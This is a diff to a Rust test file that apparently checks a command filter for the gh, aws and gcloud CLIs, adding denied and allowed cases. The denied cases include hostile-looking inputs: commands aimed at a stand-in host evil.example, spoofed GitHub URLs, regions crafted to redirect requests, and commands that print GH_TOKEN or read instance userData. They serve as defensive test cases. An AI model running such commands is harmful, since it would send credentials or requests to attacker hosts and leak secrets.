@@ -280,7 +280,24 @@ fn gh() {
          gh pr close 5 -d
          gh pr list --json title --jq env
          gh pr list --json title --jq=$ENV.GH_TOKEN
-         gh pr list --json title -q .[]|env.GH_TOKEN",
+         gh pr list --json title -q .[]|env.GH_TOKEN
+         gh pr list --repo evil.example/o/r
+         gh pr list -R evil.example/o/r
+         gh pr list -Revil.example/o/r
+         gh pr list -R=evil.example/o/r
+         gh --repo evil.example/o/r pr list
+         gh --repo=https://evil.example/o/r pr list
+         gh pr list --repo ../r
+         gh pr list --repo
+         gh repo view evil.example/o/r
+         gh pr view https://evil.example/o/r/pull/1
+         gh pr view http://github.com/o/r/pull/1
+         gh run view https://evil.example
+         gh pr view https://github.com.evil.example/o/r/pull/1
+         gh pr view https://github.com@evil.example/o/r/pull/1
+         gh pr view git@evil.example:o/r
+         gh issue create --title t --body b -R o/r
+         gh issue comment https://github.com/o/r/issues/1 --body b",
     );
     allowed(
         "gh pr list
@@ -290,6 +307,10 @@ fn gh() {
          gh run view 5 --log-failed
          gh issue create --title t --body b
          gh search code x --owner y
+         gh pr view https://github.com/o/r/pull/1
+         gh repo view o/r
+         gh variable get NAME
+         gh --version
          gh status",
     );
 }
@@ -334,6 +355,16 @@ fn aws() {
          aws lambda invoke --function-name f out
          aws ec2 run-instances
          aws --unknown s3 ls
+         aws ec2 describe-instances --region evil.example.com/
+         aws ec2 describe-instances --region x@evil.example#
+         aws --region=evil.example/ ec2 describe-instances
+         aws ec2 describe-instances --regi evil.example/
+         aws ec2 describe-instances --region
+         aws ec2 describe-instances --region eu-west-1.evil.example
+         aws ec2 describe-instance-attribute --instance-id i --attribute userData
+         aws ec2 describe-instance-attribute --instance-id i --attribute=userData
+         aws ec2 describe-launch-template-versions --launch-template-id l
+         aws lambda list-functions
          aws
          aws s3",
     );
@@ -343,7 +374,10 @@ fn aws() {
          aws sts get-caller-identity
          aws ec2 describe-instances --filters Name=instance-state-name,Values=running
          aws --no-cli-pager ecs list-tasks --cluster c
-         aws logs tail /aws/lambda/f --since 1h",
+         aws logs tail /aws/lambda/f --since 1h
+         aws ec2 describe-instances --region us-gov-east-1
+         aws ec2 describe-instance-attribute --instance-id i --attribute instanceType
+         aws --version",
     );
 }
 
@@ -376,16 +410,36 @@ fn gcloud() {
          gcloud compute instances list --verbosity=debug
          gcloud compute instances delete i
          gcloud --unknown compute instances list
+         gcloud --project p compute instances describe i --zone z
+         gcloud compute --format=json instances list
+         gcloud compute instances list --format=value(metadata)
+         gcloud compute instances list --form yaml
+         gcloud run services describe s
          gcloud compute instances",
     );
     allowed(
         "gcloud compute instances list
-         gcloud --project p compute instances describe i --zone z
-         gcloud compute --format=json instances list --filter status=RUNNING
+         gcloud --project p compute networks describe n
+         gcloud compute --format=json networks list --filter status=RUNNING
+         gcloud compute instances list --format=table(name,zone)
          gcloud logging read severity>=ERROR --limit 5
          gcloud functions logs read f
          gcloud projects list",
     );
+}
+
+#[test]
+fn a_call_for_the_version_is_whole_and_a_name_alone_is_not() {
+    let wrong = check("aws", &[]).unwrap_err();
+    assert_eq!(wrong.why, "`aws` alone is not a whole command");
+    assert_eq!(check("gcloud", &words("--version")), Ok(()));
+    assert_eq!(check("docker", &words("--version")), Ok(()));
+}
+
+#[test]
+fn a_region_in_a_variable_is_one_or_is_not_handed_over() {
+    assert!(super::may_have("AWS_REGION", "eu-central-1") && super::may_have("AWS_PROFILE", "evil/"));
+    assert!(!super::may_have("AWS_DEFAULT_REGION", "evil.example/"));
 }
 
 #[test]
